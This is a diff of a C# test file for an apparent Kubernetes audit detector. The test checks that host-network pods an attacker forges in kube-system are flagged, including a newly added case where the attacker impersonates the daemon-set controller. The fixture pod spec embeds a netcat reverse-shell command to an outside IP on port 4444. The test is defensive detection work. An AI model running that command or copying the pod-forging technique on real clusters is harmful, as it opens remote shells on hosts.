@@ -890,7 +890,8 @@ public sealed class BlindAttackChainCaseTests
     public void A_host_network_pod_a_user_created_from_a_copied_controller_pod_manifest_is_reported_whatever_owner_it_names()
     {
         // kubectl get pod kube-proxy-… -o yaml, edited and created again, keeps the DaemonSet's ownerReference: the owner's
-        // template was on the host network already, but the pod was created by the attacker, not by the DaemonSet's controller.
+        // template was on the host network already, but the pod was created by the attacker, not by the DaemonSet's controller,
+        // even when the attacker impersonates that controller (kubectl --as), as the role it gave itself allows.
         const string kubeProxy = """
 
             ---
@@ -903,8 +904,8 @@ public sealed class BlindAttackChainCaseTests
                 metadata: {labels: {k8s-app: kube-proxy}}
                 spec: {hostNetwork: true, containers: [{name: kube-proxy, image: registry.k8s.io/kube-proxy:v1.30.2}]}
             """;
-        static string Pod(string name, string owner, string user, string at, string agent, string[] groups) =>
-            Created(Event("create", "pods", "kube-system", name, user: user, groups: groups, at: at, userAgent: agent, code: 201,
+        static string Pod(string name, string owner, string user, string at, string agent, string[] groups, string? impersonating = null) =>
+            Created(Event("create", "pods", "kube-system", name, user: user, groups: groups, at: at, userAgent: agent, code: 201, impersonating: impersonating,
                 request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"{{{name}}}","namespace":"kube-system","labels":{"k8s-app":"kube-proxy"},"ownerReferences":[{{{owner}}}]},"spec":{"nodeName":"node-1","hostNetwork":true,"containers":[{"name":"kube-proxy","image":"registry.k8s.io/kube-proxy:v1.30.2","command":["/bin/sh","-c","nc -e /bin/sh 203.0.113.9 4444"]}]}}"""));
         const string daemonSet = """{"apiVersion":"apps/v1","kind":"DaemonSet","name":"kube-proxy","uid":"1d0c4c1e-0001-4000-8000-0000000000a1","controller":true,"blockOwnerDeletion":true}""";
         const string node = """{"apiVersion":"v1","kind":"Node","name":"node-1","uid":"n1","controller":true}""";
@@ -917,13 +918,15 @@ public sealed class BlindAttackChainCaseTests
                 ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]),
             Pod("kube-proxy-node-1", node, "system:node:node-1", "21:02", "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", ["system:nodes", "system:authenticated"]),
             Pod("etcd-node-1", node, Attacker, "21:03", Kubectl, attacker),
+            Pod("kube-proxy-m4n5b", daemonSet, Attacker, "21:04", Kubectl, attacker, impersonating: "system:serviceaccount:kube-system:daemon-set-controller"),
         ];
         const string user = " " + Attacker + " ";
         Assert.Equal(
         [
-            "events 4",
+            "events 5",
             "host-network-pod high 2024-05-01T21:00:00Z" + user + "create Pod kube-system/kube-proxy-x9z8y | ",
             "host-network-pod high 2024-05-01T21:03:00Z" + user + "create Pod kube-system/etcd-node-1 | ",
+            "host-network-pod high 2024-05-01T21:04:00Z" + user + "create Pod kube-system/kube-proxy-m4n5b | ",
         ], Audit(Cluster + kubeProxy, log));
     }
 }
